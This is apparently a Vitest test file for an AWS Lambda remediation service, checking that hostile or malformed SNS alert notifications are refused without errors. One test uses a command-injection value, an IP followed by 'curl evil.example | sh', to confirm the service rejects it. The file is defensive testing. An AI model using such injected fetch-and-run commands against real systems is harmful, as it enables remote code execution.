import type { SNSEvent } from "aws-lambda";
import { describe, expect, it } from "vitest";
import { MemoryStateStore } from "../../../functions/aws/state.js";
import { createLogger } from "../../../functions/lambda/log.js";
import { Remediator } from "../../../functions/remediation/remediator.js";
import type { Notification } from "../../../shared/alerts/types.js";
import { DEFAULT_CONFIG } from "../../../shared/config/defaults.js";
import { SimulatedExecutor } from "../../../shared/remediation/simulated-executor.js";
import type { ExecutionResult, Executor, RemediationAction } from "../../../shared/remediation/types.js";
import { alert, notification } from "./fixtures.js";

const WALL_MS = Date.UTC(2026, 0, 5, 12, 0, 0);
const WALL = () => WALL_MS;

class CountingExecutor implements Executor {
  readonly name = "counting";
  readonly executed: RemediationAction[] = [];
  async execute(action: RemediationAction): Promise<ExecutionResult> {
    this.executed.push(action);
    return { status: "ok", detail: `did ${action.type}` };
  }
}

function record(message: string, i = 0) {
  return {
    EventSource: "aws:sns",
    EventVersion: "1.0",
    EventSubscriptionArn: "arn:aws:sns:us-east-1:123456789012:alerts:sub",
    Sns: {
      Type: "Notification",
      MessageId: `m-${i}`,
      TopicArn: "arn:aws:sns:us-east-1:123456789012:alerts",
      Subject: "alert",
      Message: message,
      Timestamp: new Date(WALL_MS).toISOString(),
      SignatureVersion: "1",
      Signature: "",
      SigningCertUrl: "",
      UnsubscribeUrl: "",
      MessageAttributes: {},
    },
  };
}

const wrap = (n: unknown) =>
  JSON.stringify({ kind: "cloud-observability.notification", version: 1, notification: n });

function snsEvent(...notifications: unknown[]): SNSEvent {
  return { Records: notifications.map((n, i) => record(wrap(n), i)) } as SNSEvent;
}

function makeRemediator(executor: Executor, lines: string[] = []) {
  return new Remediator({
    config: DEFAULT_CONFIG.remediation,
    store: new MemoryStateStore(),
    executor,
    logger: createLogger({}, (line) => lines.push(line), WALL),
    writeMetrics: () => {},
    now: WALL,
  });
}

/** A brute-force alert on its own IP, dated `atMs`. */
function ipAlert(i: number, atMs: number): Notification {
  const entity = `198.51.100.${i}`;
  return notification({
    id: `n-${i}-${atMs}`,
    atMs,
    alerts: [alert({ fingerprint: `fp-${i}`, entity, startsAtMs: atMs - 10_000 })],
  });
}

describe("Remediator: hostile notifications", () => {
  it.each(["constructor", "toString"])("alert type %s runs nothing and throws nothing", async (type) => {
    const executor = new SimulatedExecutor({ log: () => {} });
    const n = notification({ alerts: [alert({ type: type as never })] });
    const summary = await makeRemediator(executor).handle(snsEvent(n));
    expect(summary.acted).toBe(0);
    expect(summary.audit.map((r) => [r.stage, r.data.reason])).toEqual([["skip", "no_policy"]]);
  });

  it.each([
    ["alerts: [null]", { ...notification(), alerts: [null] }],
    ["an alert without a fingerprint", { ...notification(), alerts: [{ ...alert(), fingerprint: 7 }] }],
    ["an alert with a non-finite start", { ...notification(), alerts: [{ ...alert(), startsAtMs: "soon" }] }],
    ["an alert without annotations", { ...notification(), alerts: [{ ...alert(), annotations: null }] }],
  ])("%s is an invalid message, counted and logged, nothing thrown", async (_name, n) => {
    const executor = new CountingExecutor();
    const lines: string[] = [];
    const summary = await makeRemediator(executor, lines).handle(snsEvent(n));
    expect(summary.invalid).toBe(1);
    expect(executor.executed).toHaveLength(0);
    expect(lines.some((l) => l.includes("not an alert notification"))).toBe(true);
  });

  it("atMs 8.64e15 is refused as an impossible time, nothing thrown", async () => {
    const executor = new CountingExecutor();
    const n = notification({ atMs: 8.64e15, alerts: [alert({ startsAtMs: 8.64e15 - 1000 })] });
    const summary = await makeRemediator(executor).handle(snsEvent(n));
    expect(executor.executed).toHaveLength(0);
    expect(summary.audit.map((r) => [r.stage, r.data.reason])).toEqual([["skip", "impossible_time"]]);
  });

  it("ten alerts dated 2030 are refused and never open the circuit breaker", async () => {
    const executor = new CountingExecutor();
    const remediator = makeRemediator(executor);
    const future = Date.parse("2030-01-01T00:00:00Z");
    const refused = await remediator.handle(
      snsEvent(...Array.from({ length: 10 }, (_, i) => ipAlert(i + 1, future + i * 1000))),
    );
    expect(refused.acted).toBe(0);
    expect(refused.skipped).toBe(10);
    expect(new Set(refused.audit.map((r) => r.data.reason))).toEqual(new Set(["impossible_time"]));
    const now = await remediator.handle(snsEvent(ipAlert(50, WALL_MS - 5_000)));
    expect(now.acted).toBe(1);
    expect(executor.executed.map((a) => a.target)).toEqual(["198.51.100.50"]);
  });

  it("a camelCase `records` key is accepted, with a warning", async () => {
    const executor = new CountingExecutor();
    const lines: string[] = [];
    const event = { records: [record(wrap(notification()))] } as unknown as SNSEvent;
    const summary = await makeRemediator(executor, lines).handle(event);
    expect(summary.records).toBe(1);
    expect(summary.acted).toBe(1);
    expect(lines.some((l) => l.includes("records") && l.includes('"level":"warn"'))).toBe(true);
  });

  it("an event with no records at all is logged, not silently ignored", async () => {
    const lines: string[] = [];
    const summary = await makeRemediator(new CountingExecutor(), lines).handle({
      foo: 1,
    } as unknown as SNSEvent);
    expect(summary.records).toBe(0);
    expect(lines.some((l) => l.includes("no Records"))).toBe(true);
  });

  it("a block_ip target that is not an IP or CIDR is refused", async () => {
    const executor = new CountingExecutor();
    const n = notification({ alerts: [alert({ entity: "203.0.113.7; curl evil.example | sh" })] });
    const summary = await makeRemediator(executor).handle(snsEvent(n));
    expect(executor.executed).toHaveLength(0);
    expect(summary.audit.map((r) => [r.stage, r.data.reason])).toEqual([["skip", "invalid_target"]]);
  });
});
